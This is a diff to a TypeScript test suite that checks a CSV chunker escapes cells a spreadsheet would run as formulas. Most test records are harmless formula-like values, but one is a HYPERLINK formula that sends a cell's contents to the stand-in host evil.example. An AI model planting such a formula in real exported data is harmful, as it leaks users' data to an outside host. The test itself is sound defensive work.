@@ -105,6 +105,27 @@ function expectSameOutput(got: Collected, want: Collected, predictionAt: number[
   }
 }
 
+/**
+ * Records with cells a spreadsheet would run as formulas (escaped with a leading ' in the CSV, so
+ * such a plain record takes the row path), and with numeric text that is no formula.
+ */
+const FORMULA_RECORDS = [
+  "8,2,4,true,0.5,=1+2",
+  "8,2,4,true,0.5,+1+1",
+  "8,2,4,true,0.5,-cmd",
+  "8,2,4,true,0.5,@SUM(A1)",
+  "8,2,4,true,0.5,\tleading tab",
+  '8,2,4,true,0.5,"=HYPERLINK(""http://evil.example/?d=""&A1,""click"")"',
+  '8,2,4,true,0.5,"\r=1+1"',
+  "-cmd,2,4,true,0.5,a formula in a number column: a row error",
+  "-Infinity,2,4,true,0.5,not a plain number: a row error",
+  "@1,2,4,true,0.5,x",
+  "-1.5,2,4,true,-0.5,-1.5e3",
+  "-1e3,2.5,+4,true,-0.25,-5",
+  "abc,2,4,true,0.5,=1+1 after a row error",
+  "1,2,4,maybe,0.5,@ after a row error",
+];
+
 /** Plain rows with every odd kind of record mixed in. */
 function trickyCsv(rows: number, eol: string, seed: number): string {
   const random = mulberry32(seed);
@@ -124,6 +145,7 @@ function trickyCsv(rows: number, eol: string, seed: number): string {
     '6,2,4,true,0.5,"multi\nline ""note"""',
     "7,2,4,TRUE,0.5,ünïcödé ✓",
     "",
+    ...FORMULA_RECORDS,
   ];
   const lines = ["a,b,c,flag,d,note"];
   for (let i = 0; i < rows; i++) {
@@ -185,6 +207,45 @@ describe("ColumnarChunks", () => {
     for await (const chunk of new ColumnarChunks(layout, 4096, 4096).chunks(file, 0)) counts.push(chunk.count);
     expect(counts.reduce((a, b) => a + b, 0)).toBe(50);
     expect(Math.max(...counts)).toBeLessThanOrEqual(4);
+  });
+
+  it("escapes cells a spreadsheet would run as formulas, in both paths alike; numbers and the table's values stay as they came", async () => {
+    const { predictor } = await predictorFor(steps);
+    const plain = Array.from({ length: 40 }, (_, i) => `${i % 10},${1 + (i % 3)},${i % 20},${i % 2 ? "true" : "false"},0.${i % 10},n${i}`);
+    const text = ["a,b,c,flag,d,note", ...plain.slice(0, 20), ...FORMULA_RECORDS, ...plain.slice(20)].join("\n") + "\n";
+    const file = path.join(dir, "formulas.csv");
+    fs.writeFileSync(file, text);
+    const layout = layoutOf(predictor, ["a", "b", "c", "flag", "d", "note"]);
+    for (const capacity of [4096, 7]) {
+      const got = await collect(new ColumnarChunks(layout, capacity, 256).chunks(file, 0));
+      const want = await rowPath(layout, text);
+      expectSameOutput(got, want, [7]);
+      const lines = got.csv.split("\n");
+      const cellsOf = (k: number) => lines[20 + k];
+      expect(cellsOf(0)).toMatch(/^8,2,4,true,0\.5,'=1\+2,/);
+      expect(cellsOf(1)).toMatch(/^8,2,4,true,0\.5,'\+1\+1,/);
+      expect(cellsOf(2)).toMatch(/^8,2,4,true,0\.5,'-cmd,/);
+      expect(cellsOf(3)).toMatch(/^8,2,4,true,0\.5,'@SUM\(A1\),/);
+      expect(cellsOf(4)).toMatch(/^8,2,4,true,0\.5,'\tleading tab,/);
+      expect(cellsOf(5)).toMatch(/^8,2,4,true,0\.5,"'=HYPERLINK\(""http:\/\/evil\.example\/\?d=""&A1,""click""\)",/);
+      expect(cellsOf(6)).toMatch(/^8,2,4,true,0\.5,"'\r=1\+1",/);
+      expect(cellsOf(7)).toMatch(/^'-cmd,2,4,/);
+      expect(cellsOf(8)).toMatch(/^'-Infinity,2,4,/);
+      expect(cellsOf(9)).toMatch(/^'@1,2,4,/);
+      // Numeric text is no formula: as it came, and scored.
+      expect(cellsOf(10)).toMatch(/^-1\.5,2,4,true,-0\.5,-1\.5e3,-?\d/);
+      expect(cellsOf(11)).toMatch(/^-1e3,2\.5,\+4,true,-0\.25,-5,-?\d/);
+      expect(cellsOf(12)).toMatch(/^abc,2,4,true,0\.5,'=1\+1 after a row error,,"a: /);
+      expect(cellsOf(13)).toMatch(/^1,2,4,maybe,0\.5,'@ after a row error,,"?flag: /);
+      expect(got.errors.slice(20, 20 + FORMULA_RECORDS.length).map(Boolean)).toEqual([false, false, false, false, false, false, false, true, true, true, false, false, true, true]);
+      // The output table holds the values as they came, unescaped.
+      expect(got.table[20][6]).toBe("=1+2");
+      expect(got.table[25][6]).toBe('=HYPERLINK("http://evil.example/?d="&A1,"click")');
+      expect(got.table[27][1]).toBe("-cmd");
+      expect(got.table[31][1]).toBe(-1000);
+      // Every plain record around them kept its own bytes.
+      expect(lines.slice(0, 20).every((l, i) => l.startsWith(plain[i] + ","))).toBe(true);
+    }
   });
 
   it("writes a classifier's label and probabilities as the row path does", async () => {
